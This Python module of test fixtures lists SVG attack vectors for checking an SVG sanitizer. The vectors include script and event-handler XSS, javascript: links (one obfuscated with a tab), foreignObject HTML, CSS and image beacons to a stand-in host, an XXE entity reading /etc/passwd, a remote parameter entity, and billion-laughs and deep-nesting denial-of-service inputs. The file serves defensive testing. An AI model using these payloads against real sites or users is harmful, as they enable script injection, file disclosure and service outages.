"""Drawings made to run a script or to call home when they are opened; HIT stands for an address that counts its visitors.

Source: HAZARDS of SVG as published in OWASP's filter evasion cheat sheet and the advisories CVE-2018-7265,
GHSA-m6mh-2hw2-555x (animations that set links) and RUSTSEC-2025-0071 (foreign content).
"""

from typing import Final

HIT: Final = "http://hit.invalid/"

_RUN: Final = f"new Image().src='{HIT}run'"
_SPACES: Final = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="60" height="40"'


def drawing(inner: str, attributes: str = "") -> str:
    """Return an SVG around what is given."""
    return f'<svg {_SPACES} {attributes}>{inner}<rect width="60" height="40" fill="#0a0"/></svg>'


_HTML: Final = 'xmlns="http://www.w3.org/1999/xhtml"'

VECTORS: Final[dict[str, str]] = {
    "script": drawing(f"<script>{_RUN}</script>"),
    "script in CDATA": drawing(f"<script><![CDATA[{_RUN}]]></script>"),
    "script of another type": drawing(f'<script type="text/ecmascript">{_RUN}</script>'),
    "script from outside": drawing(f'<script href="{HIT}js"/>'),
    "script by xlink": drawing(f'<script xlink:href="{HIT}js"/>'),
    "script by data": drawing(f'<script href="data:text/javascript,{_RUN}"/>'),
    "script of HTML": drawing(f"<h:script xmlns:h='http://www.w3.org/1999/xhtml'>{_RUN}</h:script>"),
    "script within a shape": drawing(f"<g><defs><script>{_RUN}</script></defs></g>"),
    "onload": drawing("", f'onload="{_RUN}"'),
    "onload of a group": drawing(f'<g onload="{_RUN}"/>'),
    "onerror": drawing(f'<image href="{HIT}no" onerror="{_RUN}"/>'),
    "onbegin": drawing(f'<animate attributeName="x" dur="1s" onbegin="{_RUN}"/>'),
    "onend": drawing(f'<set attributeName="x" dur="0.1s" to="1" onend="{_RUN}"/>'),
    "onfocus": drawing(f'<a id="a" tabindex="0" autofocus="true" onfocus="{_RUN}"><text y="9">x</text></a>'),
    "handler of XML events": drawing(
        f'<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load" type="text/ecmascript">{_RUN}</handler>'
    ),
    "foreign script": drawing(f"<foreignObject width='9' height='9'><script {_HTML}>{_RUN}</script></foreignObject>"),
    "foreign frame": drawing(f"<foreignObject width='9' height='9'><iframe {_HTML} src='{HIT}frame'/></foreignObject>"),
    "foreign picture": drawing(f"<foreignObject width='9' height='9'><img {_HTML} src='{HIT}img'/></foreignObject>"),
    "foreign object": drawing(f"<foreignObject width='9' height='9'><object {_HTML} data='{HIT}obj'/></foreignObject>"),
    "foreign refresh": drawing(
        f"<foreignObject width='9' height='9'><meta {_HTML} http-equiv='refresh' content='0;url={HIT}meta'/></foreignObject>"
    ),
    "HTML without foreignObject": drawing(f"<img {_HTML} src='{HIT}img'/>"),
    "frame of SVG": drawing(f'<iframe xmlns="http://www.w3.org/1999/xhtml" src="{HIT}frame"/>'),
    "picture from outside": drawing(f'<image href="{HIT}png" width="9" height="9"/>'),
    "picture by xlink": drawing(f'<image xlink:href="{HIT}png" width="9" height="9"/>'),
    "picture of another scheme": drawing('<image href="//hit.invalid/png" width="9" height="9"/>'),
    "drawing in a drawing": drawing(
        f"<image width='9' height='9' href=\"data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' onload='fetch(&quot;{HIT}x&quot;)'/%3E\"/>"
    ),
    "use from outside": drawing(f'<use href="{HIT}svg#a"/>'),
    "use of data": drawing(f"<use href=\"data:image/svg+xml,%3Csvg id='x' onload='{HIT}'/%3E#x\"/>"),
    "filter picture": drawing(
        f'<filter id="f"><feImage href="{HIT}fe"/></filter><rect filter="url(#f)" width="9" height="9"/>'
    ),
    "fill from outside": drawing(f'<rect width="9" height="9" fill="url({HIT}svg#a)"/>'),
    "fill spelled with escapes": drawing(f'<rect width="9" height="9" fill="u\\72 l({HIT}svg#a)"/>'),
    "filter from outside": drawing(f'<rect width="9" height="9" filter="url(\'{HIT}svg#a\')"/>'),
    "mask from outside": drawing(f'<rect width="9" height="9" mask="url({HIT}svg#a)"/>'),
    "cursor from outside": drawing(f'<rect width="60" height="40" cursor="url({HIT}cur), auto"/>'),
    "style attribute": drawing(f'<rect width="9" height="9" style="mask-image:url({HIT}css);fill:url({HIT}svg#a)"/>'),
    "style import": drawing(f'<style>@import "{HIT}css";</style>'),
    "style import by url": drawing(f"<style>@import url({HIT}css);</style>"),
    "style import in CDATA": drawing(f"<style><![CDATA[@import/**/'{HIT}css';]]></style>"),
    "style font": drawing(
        f"<style>@font-face{{font-family:a;src:url({HIT}font)}} text{{font-family:a}}</style><text y='9'>x</text>"
    ),
    "style picture": drawing(f"<style>svg{{background:url({HIT}css)}} rect{{mask-image:url({HIT}css2)}}</style>"),
    "style within media": drawing(f"<style>@media all{{svg{{background:url({HIT}css)}}}}</style>"),
    "style spelled with escapes": drawing(f"<style>svg{{background:u\\72l({HIT}css)}}</style>"),
    "style picture set": drawing(f"<style>svg{{background:image-set('{HIT}css' 1x)}}</style>"),
    "style of another kind": drawing(f'<link {_HTML} rel="stylesheet" href="{HIT}css"/>'),
    "animated link": drawing(
        '<a id="a"><text y="9">x</text><animate attributeName="href" values="javascript:alert(1)" begin="0s"/></a>'
    ),
    "animated picture": drawing(
        f'<image id="i" width="9" height="9"><set attributeName="href" to="{HIT}set"/></image>'
    ),
    "animation of another's link": drawing(
        f'<image id="i" width="9" height="9"/><animate href="#i" attributeName="href" values="{HIT}anim" fill="freeze"/>'
    ),
    "motion path from outside": drawing(f'<g><animateMotion dur="1s"><mpath href="{HIT}svg#p"/></animateMotion></g>'),
    "link of a script": drawing('<a href="javascript:alert(1)"><rect width="60" height="40"/></a>'),
    "link of a script with a tab": drawing(
        '<a xlink:href="java&#9;script:alert(1)"><rect width="60" height="40"/></a>'
    ),
    "text of an outside path": drawing(f'<text><textPath href="{HIT}svg#p">x</textPath></text>'),
    "gradient from outside": drawing(
        f'<linearGradient id="g" href="{HIT}svg#g"/><rect width="9" height="9" fill="url(#g)"/>'
    ),
    "base": drawing('<image href="png" width="9" height="9"/>', f'xml:base="{HIT}"'),
    "audio": drawing(f'<audio {_HTML} src="{HIT}snd" autoplay="true"/>'),
    "video": drawing(f'<video {_HTML} src="{HIT}vid" poster="{HIT}poster"/>'),
    "embed": drawing(f'<embed {_HTML} src="{HIT}emb"/>'),
    "solar namespace": f'<s:svg xmlns:s="http://www.w3.org/2000/svg" width="9" height="9"><s:script>{_RUN}</s:script></s:svg>',
    "style sheet instruction": f'<?xml-stylesheet href="{HIT}xsl" type="text/css"?>' + drawing(""),
    "document type from outside": f'<!DOCTYPE svg SYSTEM "{HIT}dtd">' + drawing(""),
    "entity of an outside type": f'<!DOCTYPE svg SYSTEM "{HIT}dtd">' + drawing("<text>&x;</text>"),
    "transformation": f'<?xml-stylesheet href="{HIT}xsl" type="text/xsl"?>' + drawing(""),
}
"""Drawings that are cleaned, and then harmless."""

REFUSED: Final[dict[str, str]] = {
    "entity": '<!DOCTYPE svg [<!ENTITY x "&#60;script&#62;">]>' + drawing("&x;"),
    "entity from a file": '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + drawing("<text>&x;</text>"),
    "parameter entity": f'<!DOCTYPE svg [<!ENTITY % x SYSTEM "{HIT}dtd"> %x;]>' + drawing(""),
    "a billion laughs": '<!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>' + drawing("&b;"),
    "a billion uses": drawing(
        "".join(f'<g id="g{n}">{f"<use href=~#g{n + 1}~/>" * 8}</g>' for n in range(12)).replace("~", '"')
        + '<g id="g12"/>'
    ),
    "too deep": drawing("<g>" * 2_000 + "</g>" * 2_000),
    "too many": drawing("<g/>" * 200_000),
    "too long": drawing(f"<text>{'x' * (5 << 20)}</text>"),
    "HTML": "<html><script>1</script></html>",
    "not closed": "<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'><g>",
    "no namespace": "<svg width='9' height='9'/>",
    "no size": "<svg xmlns='http://www.w3.org/2000/svg'/>",
    "too large": "<svg xmlns='http://www.w3.org/2000/svg' width='60000' height='1'/>",
    "empty": "",
}
"""Drawings that cannot be used at all."""
